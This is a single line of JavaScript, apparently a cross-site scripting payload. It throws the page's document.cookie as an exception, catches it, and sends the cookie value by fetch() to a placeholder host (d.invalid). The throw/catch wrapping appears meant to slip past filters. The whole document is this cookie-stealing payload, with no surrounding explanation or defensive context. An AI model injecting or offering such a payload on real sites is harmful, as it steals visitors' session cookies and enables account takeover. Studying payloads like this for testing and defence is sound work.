try { throw document.cookie; } catch (e) { fetch('https://d.invalid/' + e); }
